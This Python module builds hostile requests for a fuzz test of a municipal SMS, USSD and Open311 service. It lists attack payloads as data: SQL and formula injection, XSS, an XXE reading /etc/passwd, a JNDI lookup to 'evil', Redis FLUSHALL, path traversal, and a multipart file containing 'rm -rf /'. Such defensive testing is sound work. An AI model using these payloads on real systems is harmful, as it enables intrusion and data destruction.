"""Hostile requests for the fuzz test: every endpoint's fields, filled in and written down badly.

A request is drawn in three steps:
1. the fields: each known field plausible, hostile, missing or given twice, plus unknown ones;
2. how they are written: a proper form, raw bytes in another encoding, broken percent-escapes,
   JSON, multipart (sound or broken), nothing at all, more bytes than app.max_body_bytes (with
   a Content-Length or streamed without one), thousands of fields;
3. the headers: the content type (right, wrong, odd), Twilio's signature (valid for most
   Twilio bodies, so the fuzz reaches the parser behind the 403), the login form's CSRF cookie.
Plausible values matter as much as hostile ones: they carry a request past the first check, to
the parsers, the flows and the database behind it.
"""

from __future__ import annotations

import json
import math
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, urlencode

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

FORM = "application/x-www-form-urlencoded"
TWILIO_NUMBER = "+15005550006"  # our Twilio number in development (the emulator's)

INJECTIONS = (
    "' OR '1'='1", "1; DROP TABLE contact; --", "\"; DELETE FROM report WHERE ''='",
    "1 UNION SELECT key_hash FROM api_key", "%' AND 1=0 UNION SELECT NULL--",
    "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "@SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "</Response><Message>x",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "]]>", "&amp;&lt;&#0;", "{{7*7}}", "${jndi:ldap://evil/a}", "%s%s%s%n", "{0.__class__}",
    "a\r\nSet-Cookie: gw_staff=stolen", "x\r\n\r\nHTTP/1.1 200 OK\r\n", "\r\n.\r\n", "\n\n\n",
    "*1\r\n$8\r\nFLUSHALL\r\n", "EVAL \"return redis.call('FLUSHALL')\" 0",
    "redis.call('DEL', KEYS[1])", "gw:ussd:*", "gw:sms:seen:africastalking:*", "*", "?", "[a-z]",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "/dev/null",
    "file:///etc/shadow", "\x00", "a\x00b", "\x00" * 8, "%00", "\\x00", "\ufeff", "\u202e1*2",
    "\ud7ff", "\U0010ffff", "🙂" * 3, "𝕏", "é", "e\u0301", "ß", "İ", "\u200b", "\x1b[31m", "\x7f",
    "\x85", "\u2028", "NaN", "-Infinity", "1e999", "-0", "0x1A", "0777", "9" * 40, "-1",
    "1.5", "1,5", "null", "true", "[]", "{}", "[{\"a\": 1}]", "R-7K3Q", "r-7k3q",
    "*384*1#", "1*2*3*4*5*6*7*8*9*0*98*0", "**", "*#", "#", "98", "0", "00", "99999999999",
)
LENGTHS = (31, 32, 33, 63, 64, 65, 127, 128, 129, 160, 161, 182, 183, 500, 501, 1600, 1601, 2000,
           2001, 4097)
FILLERS = ("a", "9", "*", "é", "🙂", "\x00", "%", "&", "=", " ")


def _repeat(length: int, filler: str) -> str:
    return filler * length


def _with_nul(before: str, after: str) -> str:
    return before + "\x00" + after  # PostgreSQL refuses NUL in text: it deserves its own branch


# Strategies are built once, here: building them inside each draw costs more than the request.
# A value no provider would send: injections, controls, NULs, odd unicode, odd lengths.
HOSTILE = st.one_of(
    st.sampled_from(INJECTIONS),
    st.text(max_size=12),
    st.builds(_with_nul, st.text(max_size=4), st.text(max_size=4)),
    st.builds(_repeat, st.sampled_from(LENGTHS), st.sampled_from(FILLERS)),
    st.integers(min_value=-(10**30), max_value=10**30).map(str),
    st.floats().map(repr),
    st.lists(st.sampled_from(INJECTIONS), min_size=2, max_size=3).map("".join),
    st.just(""),
)
FIELD_NAMES = st.one_of(st.sampled_from(("id", "ID", "text[]", "a[b]", "attribute[problem]", "",
                                         "\x00", "from ", "api_key", "__proto__", "x" * 300)),
                        st.text(max_size=12))
UNKNOWN_FIELDS = st.lists(st.tuples(FIELD_NAMES, HOSTILE), max_size=3)


# --- plausible values ---------------------------------------------------------------------------

def _hex(prefix: str) -> SearchStrategy[str]:
    return st.uuids().map(lambda u: prefix + u.hex)


PHONES = st.one_of(
    st.sampled_from(("+254711000001", "254711000002", "0711000003", "+255754000004",
                     "+447700900123", TWILIO_NUMBER, "+254 711 000 005", "0711-000-006")),
    st.integers(0, 99_999_999).map("+2547{:08d}".format),
)
USSD_CODES = st.sampled_from(("*384*1#", "*384*2#", "*384*3#", "*999#", "*384*1*2#"))
USSD_TEXT = st.one_of(st.just(""), st.lists(st.integers(0, 120), min_size=1, max_size=8).map(
    lambda inputs: "*".join(map(str, inputs))))  # what AT sends: every input so far, joined by *
SMS_TEXT = st.sampled_from(("POLL", "kura", "SURVEY", "REPORT", "STOP", "START", "HELP", "1",
                            "2", "0", "yes", "STATUS R-7K3Q", "REOPEN R-7K3Q", "hali r7k3q",
                            "laini saba", "Railways, Kisumu Central", ""))
AT_STATUSES = ("Sent", "Submitted", "Buffered", "Rejected", "Success", "Failed", "success", "")
TWILIO_STATUSES = ("queued", "sending", "sent", "delivered", "undelivered", "failed", "read",
                   "canceled", "Delivered", "")
OPEN311_STATUSES = ("IN_PROGRESS", "FIXED", "closed", "rejected", "acknowledged",
                    "NOT_COUNCILS_RESPONSIBILITY", "duplicate", "open", "")
DATES = st.sampled_from(("2026-01-05T13:15:30Z", "2026-01-05T13:15:30+03:00", "2026-01-05",
                         "2026-13-45T99:99:99Z", "2026-01-05T13:15:30", "9999-12-31T23:59:59Z",
                         "0001-01-01T00:00:00+14:00", "-1", "yesterday"))


@dataclass(frozen=True)
class Endpoint:
    """One route to fuzz: its known fields with plausible values, and its share of the bodies."""

    name: str
    method: str
    path: str | SearchStrategy[str]
    fields: Mapping[str, SearchStrategy[str]]
    examples: int
    twilio: bool = False  # sign a good share of the bodies with X-Twilio-Signature
    login: bool = False  # the staff login form: a CSRF cookie that matches, or not
    in_query: bool = False  # a GET: the fields go in the query string
    either: Mapping[str, SearchStrategy[str]] = field(init=False, repr=False)  # plausible or not
    choices: Mapping[str, SearchStrategy[tuple[str, ...]]] = field(init=False, repr=False)
    one_field: SearchStrategy[int] = field(init=False, repr=False)  # the one bad field

    def __post_init__(self) -> None:  # built once: see HOSTILE
        either = {name: st.one_of(value, HOSTILE) for name, value in self.fields.items()}
        object.__setattr__(self, "either", either)
        choices = {mood: _choices(options, len(self.fields)) for mood, options in CHOICES.items()}
        object.__setattr__(self, "choices", choices)
        object.__setattr__(self, "one_field", st.integers(0, len(self.fields) - 1))

    def __repr__(self) -> str:
        return self.name


@dataclass
class FuzzRequest:
    method: str
    url: str  # path and query
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    streamed: bool = False  # sent in chunks, with no Content-Length
    sign: Mapping[str, str] | None = None  # Twilio: sign these parameters for `url`
    cookies: dict[str, str] = field(default_factory=dict)

    def __repr__(self) -> str:  # Hypothesis prints failing examples: keep them readable
        body = self.body if len(self.body) <= 400 else self.body[:400] + b"..."
        return (f"FuzzRequest({self.method} {self.url[:300]!r}, headers={self.headers!r}, "
                f"body[{len(self.body)}]={body!r}, streamed={self.streamed}, "
                f"signed={self.sign is not None}, cookies={self.cookies!r})")


# --- fields ------------------------------------------------------------------------------------

Pairs = list[tuple[str, str]]

# "one-bad": every field plausible but one, which carries the fuzz deepest, past every check
# of the other fields to the code (and the database) that uses the bad one.
MOODS = st.sampled_from(("plausible", "one-bad", "one-bad", "mixed", "mixed", "hostile"))
CHOICES = {  # what becomes of each field, by mood
    "plausible": ("good",) * 9 + ("missing",),
    "one-bad": ("good",),  # and then one field turns hostile: see _fields
    "mixed": ("good", "good", "hostile", "missing", "twice"),
    "hostile": ("hostile", "hostile", "hostile", "missing", "twice"),
}


def _choices(options: tuple[str, ...], fields: int) -> SearchStrategy[tuple[str, ...]]:
    """One choice per field, from a single drawn integer read as digits in base len(options)."""
    base = len(options)
    if base == 1:
        return st.just(options * fields)

    def digits(number: int) -> tuple[str, ...]:
        picked = []
        for _ in range(fields):
            number, digit = divmod(number, base)
            picked.append(options[digit])
        return tuple(picked)

    return st.integers(0, base**fields - 1).map(digits)


TURNS = st.integers(0, 15)


def _fields(draw: st.DrawFn, endpoint: Endpoint) -> Pairs:
    mood = draw(MOODS)
    pairs: Pairs = []
    choices = draw(endpoint.choices[mood])  # one draw for every field: draws are what cost
    if mood == "one-bad":
        bad = draw(endpoint.one_field)
        choices = choices[:bad] + ("hostile",) + choices[bad + 1:]
    for (name, plausible), choice in zip(endpoint.fields.items(), choices, strict=True):
        if choice == "missing":
            continue
        pairs.append((name, draw(HOSTILE if choice == "hostile" else plausible)))
        if choice == "twice":
            pairs.append((name, draw(endpoint.either[name])))
    if mood != "plausible":
        pairs += draw(UNKNOWN_FIELDS)
    if mood == "hostile" and pairs:  # fields out of their usual order
        turn = draw(TURNS) % len(pairs)
        pairs = pairs[turn:][::-1] + pairs[:turn]
    return pairs


# --- writing the body ---------------------------------------------------------------------------

CODECS = ("latin-1", "utf-16", "utf-16-be", "utf-32", "cp1252", "shift_jis", "utf-7")
BAD_ESCAPES = ("%", "%z", "%zz", "%C3%28", "%E2%82", "%FF%FE", "%00", "%u0041", "%%", "+%0D%0A",
               "&&", "=", "%C0%AE")
FORM_TYPES = (FORM, FORM + "; charset=UTF-8", FORM.upper(), FORM + "; charset=latin-1",
              f" {FORM} ;;", FORM + "; boundary=x")
OTHER_TYPES = ("", "application/json", "text/plain", "text/xml", "application/xml",
               "multipart/form-data", "multipart/form-data; boundary=", "multipart/mixed",
               "application/x-www-form-urlencoded\x00", "*/*", "form", "application/octet-stream")
FIELD_COUNTS = (65, 1000, 5000)
MANY_FIELDS = {n: b"".join(b"&f%d=v" % i for i in range(n)) for n in FIELD_COUNTS}

# Every small choice about one request, as (name, options), in groups: each group is one draw
# (Hypothesis's cost is per draw, and 10,000 requests feel it), an integer read digit by digit.
# A group stays small enough for Hypothesis to draw its integer evenly; in one huge integer the
# last dials would nearly always read 0. The first option of each is the plain case, where
# shrinking heads.
DIALS: tuple[tuple[tuple[str, tuple[Any, ...]], ...], ...] = (
    (
        ("style", ("form",) * 10 + ("raw", "bad-escapes", "json", "multipart",
                                    "multipart-broken", "empty", "oversized", "many-fields")),
        ("form type", FORM_TYPES[:3] * 3 + FORM_TYPES + OTHER_TYPES[:3]),
        ("over by", (1, 2, 64, -10)),  # bytes past the limit; -10: ten times the limit
        ("fields", FIELD_COUNTS),
    ), (
        ("other type", OTHER_TYPES + (FORM,)),
        ("codec", CODECS),
        ("document", ("object", "list", "scalar", "nested")),
        ("json type", ("application/json",) + FORM_TYPES[:2]),
    ), (
        ("boundary", ("fuzzboundary", "x" * 70, "a'b\"c", "----WebKit123")),
        ("break", ("truncated", "no-close", "header-injection", "wrong-boundary")),
        ("file", (False, True)),
        ("query", ("", "", "", "", "?token=", "?x=%zz", "?a=1&a=2")),
        ("streamed", (False, False, False, True)),
    ), (
        ("omit empty type", (False, True)),
        ("length", (None,) * 19 + ("lie",)),
        ("lie", ("0", "-1", "abc", "1e9", "999999")),
    ), (
        ("twilio", ("sign",) * 8 + ("bad signature", "none")),
        ("signature", ("", "AAAA", "x" * 28 + "=", "\u00e9", "%00")),
        ("login", ("no cookie",) * 4 + ("cookie",)),  # past the CSRF check: argon2 (slow) next
        ("csrf", ("t" * 43, "", "\x00", "=;")),
        ("bad query", (False, False, True)),
    ),
)


def _dial_group(dials: tuple[tuple[str, tuple[Any, ...]], ...]) -> SearchStrategy[dict[str, Any]]:
    def read(number: int) -> dict[str, Any]:
        chosen = {}
        for name, options in dials:
            number, index = divmod(number, len(options))
            chosen[name] = options[index]
        return chosen

    return st.integers(0, math.prod(len(options) for _, options in dials) - 1).map(read)


def _merged(groups: tuple[dict[str, Any], ...]) -> dict[str, Any]:
    return {name: value for group in groups for name, value in group.items()}


DIAL_SETTINGS = st.tuples(*(_dial_group(group) for group in DIALS)).map(_merged)
ESCAPES = st.lists(st.tuples(st.floats(0, 1), st.sampled_from(BAD_ESCAPES)),
                   min_size=1, max_size=3)


def _urlencoded(pairs: Pairs) -> bytes:
    return urlencode(pairs).encode("ascii")


def _raw(pairs: Pairs, codec: str) -> bytes:
    """Not percent-encoded at all, in another encoding: '&' and '=' in values break it too."""
    return b"&".join(name.encode(codec, "replace") + b"=" + value.encode(codec, "replace")
                     for name, value in pairs)


def _multipart(pairs: Pairs, boundary: str, *, with_file: bool, broken: str) -> bytes:
    parts = []
    for name, value in pairs:
        disposition = f'form-data; name="{name}"'.encode("utf-8", "replace")
        parts.append(b"--" + boundary.encode() + b"\r\nContent-Disposition: " + disposition
                     + b"\r\n\r\n" + value.encode("utf-8", "replace") + b"\r\n")
    if with_file:
        parts.append(b"--" + boundary.encode() + b'\r\nContent-Disposition: form-data; '
                     b'name="text"; filename="../../x.sh"\r\nContent-Type: text/x-sh\r\n\r\n'
                     b"#!/bin/sh\r\nrm -rf /\r\n")
    body = b"".join(parts) + b"--" + boundary.encode() + b"--\r\n"
    if broken == "truncated":
        return body[: len(body) // 2]
    if broken == "no-close":
        return b"".join(parts)
    if broken == "header-injection":
        return body.replace(b"Content-Disposition: form-data; ",
                            b"Content-Disposition: form-data; name=\"a\"\r\nX-Evil: 1; ", 1)
    return body


def _insert(draw: st.DrawFn, text: str) -> str:
    """`text` with one to three broken percent-escapes put in at drawn places."""
    for where, escape in draw(ESCAPES):
        at = int(where * len(text))
        text = text[:at] + escape + text[at:]
    return text


def _written(draw: st.DrawFn, dials: Mapping[str, Any], pairs: Pairs,
             limit: int) -> tuple[str, bytes, bool]:
    """(content type, body, whether the body parses back to exactly `pairs`)."""
    style = dials["style"]
    if style in ("form", "oversized", "many-fields"):
        if style == "oversized":
            over = dials["over by"]
            pairs = pairs + [("pad", "x" * (limit + over if over > 0 else 10 * limit))]
        body = _urlencoded(pairs)
        if style == "many-fields":
            body += MANY_FIELDS[dials["fields"]]
        kind = dials["form type"]
        return kind, body, kind in FORM_TYPES[:3]
    if style == "raw":
        return dials["form type"], _raw(pairs, dials["codec"]), False
    if style == "bad-escapes":
        return dials["form type"], _insert(draw, urlencode(pairs)).encode(), False
    if style == "json":
        value = {
            "object": dict(pairs), "list": pairs, "scalar": 42,
            "nested": {"data": dict(pairs), "n": [1, 2.5, None, True]},
        }[dials["document"]]
        return dials["json type"], json.dumps(value).encode(), False
    if style.startswith("multipart"):
        boundary = dials["boundary"]
        broken = "none" if style == "multipart" else dials["break"]
        with_file = dials["file"]
        body = _multipart(pairs, boundary, with_file=with_file, broken=broken)
        declared = "other" if broken == "wrong-boundary" else boundary
        return (f"multipart/form-data; boundary={declared}", body,
                broken == "none" and not with_file)
    return dials["other type"], b"", True


# --- requests ----------------------------------------------------------------------------------


def requests_for(endpoint: Endpoint, limit: int) -> SearchStrategy[FuzzRequest]:
    """Requests to `endpoint`; `limit` is app.max_body_bytes."""

    @st.composite
    def requests(draw: st.DrawFn) -> FuzzRequest:
        pairs = _fields(draw, endpoint)
        dials = draw(DIAL_SETTINGS)
        path = endpoint.path if isinstance(endpoint.path, str) else draw(endpoint.path)
        if endpoint.in_query:
            query = urlencode(pairs, quote_via=quote)
            return FuzzRequest(endpoint.method, path + "?" + (
                _insert(draw, query) if dials["bad query"] else query))
        kind, body, exact = _written(draw, dials, pairs, limit)
        request = FuzzRequest(endpoint.method, path + dials["query"], body=body,
                              streamed=dials["streamed"])
        if kind or not dials["omit empty type"]:  # an empty type is sent as such, or left out
            request.headers["content-type"] = kind
        if not request.streamed and dials["length"]:  # a Content-Length that lies
            request.headers["content-length"] = dials["lie"]
        if endpoint.twilio:
            if exact and dials["twilio"] == "sign":
                request.sign = dict(pairs)  # valid: the parser behind the 403 gets the body
            elif dials["twilio"] == "bad signature":
                request.headers["X-Twilio-Signature"] = dials["signature"]
        if endpoint.login and dials["login"] == "cookie":
            request.cookies["gw_login_csrf"] = dials["csrf"]
            if exact and kind in FORM_TYPES[:3]:  # the form carries the same token
                request.body += b"&" + _urlencoded([("csrf_token", dials["csrf"])])
        return request

    return requests()


def endpoints(reference: str, api_key: str, staff_email: str, staff_password: str,
              sent_ids: Mapping[str, str]) -> list[Endpoint]:
    """Every endpoint that takes input, with its share of the 10,000 bodies.

    `reference`, `api_key`, the staff account and `sent_ids` (a message we sent, per provider)
    exist in the database, so plausible values can reach the code behind each lookup.
    """
    key = st.sampled_from((api_key, api_key, api_key, "wrong-key", ""))
    ids = st.one_of(st.sampled_from((reference, reference.lower(), "R-0000", "r7k3q")),
                    HOSTILE)
    formats = st.sampled_from(("json", "json", "xml", "html", "JSON", "json%00", ""))

    def at_sms_id(provider: str) -> SearchStrategy[str]:
        return st.one_of(st.just(sent_ids[provider]), _hex("ATXid_" if provider ==
                                                             "africastalking" else "SM"))

    def open311(path: Callable[[str], str]) -> SearchStrategy[str]:
        return st.builds(path, formats)

    return [
        Endpoint("ussd hop", "POST", "/ussd/africastalking", {
            "sessionId": _hex("ATUid_"), "serviceCode": USSD_CODES, "phoneNumber": PHONES,
            "networkCode": st.sampled_from(("63902", "63903", "")), "text": USSD_TEXT,
        }, examples=1800),
        Endpoint("ussd events", "POST", "/ussd/africastalking/events", {
            "sessionId": _hex("ATUid_"), "serviceCode": USSD_CODES, "phoneNumber": PHONES,
            "networkCode": st.just("63902"),
            "status": st.sampled_from(("Success", "Incomplete", "Failed", "success")),
            "cost": st.sampled_from(("KES 0.50", "0", "")), "durationInMillis": st.just("12345"),
            "hopsCount": st.sampled_from(("3", "0")), "input": USSD_TEXT,
            "lastAppResponse": st.sampled_from(("END Thank you", "CON Pick one")),
            "errorMessage": st.sampled_from(("", "timeout")), "date": DATES,
        }, examples=800),
        Endpoint("at sms", "POST", "/sms/africastalking", {
            "from": PHONES, "to": st.sampled_from(("21345", "+254700000000", "")),
            "text": SMS_TEXT, "date": DATES, "id": _hex("ATXid_"), "linkId": _hex(""),
            "networkCode": st.just("63902"),
        }, examples=1500),
        Endpoint("at delivery", "POST", "/sms/africastalking/delivery", {
            "id": at_sms_id("africastalking"), "status": st.sampled_from(AT_STATUSES),
            "phoneNumber": PHONES, "networkCode": st.just("63902"),
            "failureReason": st.sampled_from(("", "UserInBlacklist", "InsufficientCredit")),
            "retryCount": st.sampled_from(("0", "3")),
        }, examples=800),
        Endpoint("twilio sms", "POST", "/sms/twilio", {
            "MessageSid": _hex("SM"), "AccountSid": st.just("ACemulator0000000000000000000000"),
            "From": PHONES, "To": st.sampled_from((TWILIO_NUMBER, TWILIO_NUMBER, "+15005550007")),
            "Body": SMS_TEXT, "NumSegments": st.sampled_from(("1", "2", "0")),
            "NumMedia": st.just("0"), "ApiVersion": st.just("2010-04-01"),
        }, examples=1500, twilio=True),
        Endpoint("twilio status", "POST", "/sms/twilio/status", {
            "MessageSid": at_sms_id("twilio"), "MessageStatus": st.sampled_from(TWILIO_STATUSES),
            "ErrorCode": st.sampled_from(("", "30003", "21610", "30008")), "To": PHONES,
            "From": st.just(TWILIO_NUMBER), "AccountSid": st.just("AC" + "0" * 32),
        }, examples=800, twilio=True),
        Endpoint("open311 post request", "POST", open311(lambda f: f"/open311/v2/requests.{f}"), {
            "api_key": key,
            "service_code": st.sampled_from(("water", "roads", "waste", "lights", "nope", "")),
            "address_string": st.sampled_from(("Railways, Kisumu Central", "kondele", "laini saba",
                                               "Nowhere", "")),
            "lat": st.sampled_from(("-0.0917", "91", "nan", "")),
            "long": st.sampled_from(("34.768", "-181", "inf", "")),
            "description": st.sampled_from(("Tap broken", "", "x" * 2001)),
            "attribute[problem]": st.sampled_from(("dry", "leaking", "wet", "")),
            "email": st.just("a@example.org"), "phone": PHONES,
        }, examples=1000),
        Endpoint("open311 post update", "POST",
                 open311(lambda f: f"/open311/v2/servicerequestupdates.{f}"), {
            "api_key": key, "service_request_id": ids,
            "status": st.sampled_from(OPEN311_STATUSES),
            "description": st.sampled_from(("Fixed", "", "Pipe replaced")),
            "update_id": st.sampled_from(("u-1", "u" * 65, "")),
            "updated_datetime": DATES,
        }, examples=500),
        Endpoint("open311 get", "GET", st.one_of(
            open311(lambda f: f"/open311/v2/requests.{f}"),
            open311(lambda f: f"/open311/v2/services.{f}"),
            st.builds(lambda c, f: f"/open311/v2/services/{quote(c, safe='')}.{f}",
                      st.one_of(st.sampled_from(("water", "roads")), HOSTILE), formats),
            st.builds(lambda r, f: f"/open311/v2/requests/{quote(r, safe='')}.{f}", ids, formats),
        ), {
            "service_request_id": st.one_of(ids, st.just(",".join([reference] * 101))),
            "service_code": st.sampled_from(("water", "water,roads", "")),
            "start_date": DATES, "end_date": DATES,
            "status": st.sampled_from(("open", "closed", "open,closed", "OPEN", "pending")),
            "jurisdiction_id": st.just("kisumu"),
        }, examples=900, in_query=True),
        Endpoint("staff login", "POST", "/staff/login", {
            "email": st.sampled_from((staff_email, staff_email.upper(), "nobody@example.org")),
            "password": st.sampled_from((staff_password, "wrong-password-123", "")),
            "next": st.sampled_from(("/staff/", "//evil.example/", "https://evil.example/",
                                     "/staff/\\evil", "javascript:alert(1)")),
        }, examples=400, login=True),
    ]
